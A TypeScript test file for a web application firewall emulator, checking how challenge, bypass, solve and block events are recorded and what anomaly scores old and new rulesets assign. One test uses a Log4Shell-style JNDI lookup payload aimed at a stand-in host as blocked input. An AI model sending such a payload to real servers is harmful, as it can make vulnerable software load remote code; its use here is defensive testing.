// What an event says happened, from real evaluations (compileZone + evaluate, as the proxy
// runs them): a challenge served, passed with the clearance cookie (the hosted "bypassed"
// actions), taken as solved by `--challenge pass` (the "solved" ones), solved with the
// interstitial's button (the interactive "solved" ones) or answered with the
// block page by `--challenge block` (block); and the anomaly score of the previous WAF's
// events, which is that WAF's own, as the new managed rules' events carry theirs.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { EvaluatedRequest } from '../../../server/src/evaluatedRequest';
import { getRequest } from '../../getRequest';
import { owaspRuleset } from '../../../server/src/managed/owasp';
import { vendorRuleset } from '../../../server/src/managed/vendor';
import { migrationConfig, OWASP_PACKAGE_ID, previousWafStandIn, type ActionMode, type MigrationZone, type Sensitivity } from '../../../server/src/migration/index';
import type { ManagedCatalog, ManagedRule } from '../../../server/src/rulesets/catalog';
import { compileZone, type CompiledZone, type Evaluation, type RequestHooks } from '../../../server/src/rulesets/engine';
import { eventsOf } from '../../../server/src/service/events/fromEvaluation';

const ZONE_ID = 'e'.repeat(32);

function request(evaluation: Evaluation, challengeMode?: EvaluatedRequest['challengeMode']): EvaluatedRequest {
  return {
    rayId: '0123456789abcdef',
    time: Date.UTC(2026, 10, 30),
    zoneId: ZONE_ID,
    zoneName: 'actions.example.com',
    clientIp: '192.0.2.1',
    method: 'GET',
    host: 'actions.example.com',
    path: '/',
    query: '',
    userAgent: 'Mozilla/5.0',
    httpVersion: 'HTTP/1.1',
    responseStatus: evaluation.decision.action === 'allow-through' ? 200 : 403,
    evaluation,
    defaultedFields: [],
    bodyTruncated: false,
    ...(challengeMode ? { challengeMode } : {}),
  };
}

const fields = (path: string, query = '') => getRequest(path, query, 'actions.example.com');

const PASSED: RequestHooks = { challengePassed: () => true };

describe('challenges', () => {
  const zone = compileZone({
    catalog: { rulesets: [] },
    entryPoints: {
      http_request_firewall_custom: {
        kind: 'zone',
        phase: 'http_request_firewall_custom',
        rules: [
          { id: 'c1'.repeat(16), action: 'challenge', expression: 'http.request.uri.path eq "/ch"', description: 'interactive' },
          { id: 'c2'.repeat(16), action: 'js_challenge', expression: 'http.request.uri.path eq "/js"', description: 'js' },
          { id: 'c3'.repeat(16), action: 'managed_challenge', expression: 'starts_with(http.request.uri.path, "/mc")', description: 'managed' },
          { id: 'b1'.repeat(16), action: 'block', expression: 'http.request.uri.path eq "/mc/admin"', description: 'no admin' },
        ],
      },
    },
  });
  assert.deepEqual(zone.problems, []);
  const actions = (path: string, hooks: RequestHooks | undefined, mode?: EvaluatedRequest['challengeMode']) =>
    eventsOf(request(zone.evaluate(fields(path), undefined, hooks), mode)).map((e) => `${e.action} (${e.ruleAction}, ${e.outcome})`);

  test('a challenge served is the challenge', () => {
    assert.deepEqual(
      ['/ch', '/js', '/mc'].map((p) => actions(p, undefined, 'interstitial')),
      [['challenge (challenge, terminated)'], ['jschallenge (js_challenge, terminated)'], ['managed_challenge (managed_challenge, terminated)']],
    );
  });

  test('a challenge passed with the clearance cookie is the hosted "bypassed" action, not a challenge served', () => {
    for (const mode of ['interstitial', undefined] as const) {
      assert.deepEqual(
        ['/ch', '/js', '/mc'].map((p) => actions(p, PASSED, mode)),
        [['challenge_bypassed (challenge, logged)'], ['jschallenge_bypassed (js_challenge, logged)'], ['managed_challenge_bypassed (managed_challenge, logged)']],
        String(mode),
      );
    }
    // A passed challenge does not lift a block after it: two events, each saying what happened.
    assert.deepEqual(actions('/mc/admin', PASSED, 'interstitial'), ['managed_challenge_bypassed (managed_challenge, logged)', 'block (block, terminated)']);
  });

  test('--challenge pass: the hosted "solved" actions', () => {
    assert.deepEqual(
      ['/ch', '/js', '/mc'].map((p) => actions(p, PASSED, 'pass')),
      [['challenge_solved (challenge, logged)'], ['jschallenge_solved (js_challenge, logged)'], ['managed_challenge_non_interactive_solved (managed_challenge, logged)']],
    );
  });

  test("the interstitial's button pressed: the hosted \"solved\" actions of an interactive solve", () => {
    // As the proxy keeps a challenge served for its solve (proxy.ts solveOf): the challenging rule's entry, logged.
    const solve = (path: string) => {
      const served = zone.evaluate(fields(path));
      const entry = served.trace.find((e) => e.outcome === 'terminated')!;
      const evaluation: Evaluation = { decision: { action: 'allow-through' }, trace: [{ ...entry, outcome: 'logged' }], scores: {}, logs: [], skippedProducts: {} };
      return eventsOf({ ...request(evaluation, 'interstitial'), challengeSolved: 'interactive' }).map((e) => `${e.action} (${e.ruleAction}, ${e.outcome}) ${e.ruleId}`);
    };
    assert.deepEqual(
      ['/ch', '/js', '/mc'].map(solve),
      [[`challenge_solved (challenge, logged) ${'c1'.repeat(16)}`], [`jschallenge_solved (js_challenge, logged) ${'c2'.repeat(16)}`], [`managed_challenge_interactive_solved (managed_challenge, logged) ${'c3'.repeat(16)}`]],
    );
  });

  test('--challenge block: block, what the client got (ruleAction keeps the challenge)', () => {
    assert.deepEqual(
      ['/ch', '/js', '/mc', '/mc/admin'].map((p) => actions(p, undefined, 'block')),
      [['block (challenge, terminated)'], ['block (js_challenge, terminated)'], ['block (managed_challenge, terminated)'], ['block (managed_challenge, terminated)']],
    );
  });
});

describe("the previous WAF's events carry its anomaly score", () => {
  // OWASP rules that make the arithmetic obvious: +30 at PL1, +30 at PL2 (as test/unit/migration/previousWafVerdict.test.ts).
  const score = (ref: string, level: number, word: string, category: string): ManagedRule => ({
    id: ref.padEnd(32, '0'),
    ref,
    description: `${ref}: test rule`,
    expression: `http.request.uri.query contains "${word}"`,
    action: 'score',
    action_parameters: { increment: 30 },
    enabled: true,
    categories: [`paranoia-level-${level}`, category],
  });
  const CATALOG: ManagedCatalog = { rulesets: [vendorRuleset, owaspRuleset([score('a1', 1, 'attack', 'attack-sqli'), score('b2', 2, 'pl2', 'attack-xss')])] };
  const owaspId = owaspRuleset().id;
  const zone = (sensitivity: Sensitivity, action_mode: ActionMode): MigrationZone => ({
    plan: 'business',
    waf: { zoneId: ZONE_ID, enabled: true, packages: { [OWASP_PACKAGE_ID]: { sensitivity, action_mode } } },
  });
  const categories = (rulesetId: string | undefined, ruleId: string | undefined) =>
    CATALOG.rulesets[1]!.versions[0]!.rules.find((r) => rulesetId === owaspId && r.id === ruleId)?.categories?.filter((c) => c.startsWith('attack-'));

  /** Before the migration (state start, the previous WAF on): no managed entry point runs; the previous WAF decides. */
  const before = (z: MigrationZone): CompiledZone =>
    compileZone({ entryPoints: {}, catalog: CATALOG, plan: 'business', legacy: { firewallRules: [], migrated: false, validationMode: true } }, { previousWaf: previousWafStandIn(z, CATALOG).previousWaf });

  const brief = (zoneOf: CompiledZone, query: string, hooks?: RequestHooks) =>
    eventsOf(request(zoneOf.evaluate(fields('/', query), undefined, hooks), 'interstitial'), categories).map((e) => [e.source, e.action, e.anomalyScore, e.anomalyScores]);

  test("its OWASP package's block, challenge and simulate name its score", () => {
    assert.deepEqual(brief(before(zone('medium', 'block')), 'attack'), [['waf', 'block', 30, {}]]);
    assert.deepEqual(brief(before(zone('high', 'challenge')), 'attack&pl2'), [['waf', 'challenge', 60, {}]]);
    // (Its simulate only records; the action it gets is not this test's.)
    assert.deepEqual(brief(before(zone('medium', 'simulate')), 'attack').map(([source, , anomalyScore, anomalyScores]) => [source, anomalyScore, anomalyScores]), [['waf', 30, {}]]);
    // Its challenge passed with the clearance cookie: bypassed, with the score that asked for it.
    assert.deepEqual(brief(before(zone('high', 'challenge')), 'attack&pl2', PASSED), [['waf', 'challenge_bypassed', 60, {}]]);
  });

  test('its CloudFlare package does not score: 0', () => {
    assert.deepEqual(brief(before(zone('off', 'block')), '${jndi:ldap://x.example/a}'), [['waf', 'block', 0, {}]]);
  });

  test('in validation mode, the new rules carry their score and the previous WAF its own', () => {
    // The new configuration tuned to PL1 with threshold 60: it scores 30 and lets the request through; the previous WAF (PL2/40) scores 60 and challenges.
    const z = zone('high', 'challenge');
    const rules = migrationConfig(z, CATALOG).config.rules.map((r) => ({ ...r, id: undefined, version: undefined, ref: undefined }));
    const tuned = rules.map((r) =>
      (r.action_parameters as { id?: string }).id === owaspId
        ? { ...r, action_parameters: { ...(r.action_parameters as object), overrides: { categories: [2, 3, 4].map((n) => ({ category: `paranoia-level-${n}`, enabled: false })), rules: [{ id: owaspRuleset().anomalyRuleId!, score_threshold: 60 }] } } }
        : r,
    );
    const validation = compileZone(
      { entryPoints: { http_request_firewall_managed: { kind: 'zone', phase: 'http_request_firewall_managed', rules: tuned } }, catalog: CATALOG, plan: 'business', legacy: { firewallRules: [], migrated: false, validationMode: true } },
      { previousWaf: previousWafStandIn(z, CATALOG).previousWaf },
    );
    assert.deepEqual(brief(validation, 'attack&pl2'), [
      ['firewallManaged', 'score', 30, { 'attack-sqli': 30 }],
      ['waf', 'challenge', 60, {}],
    ]);
  });
});
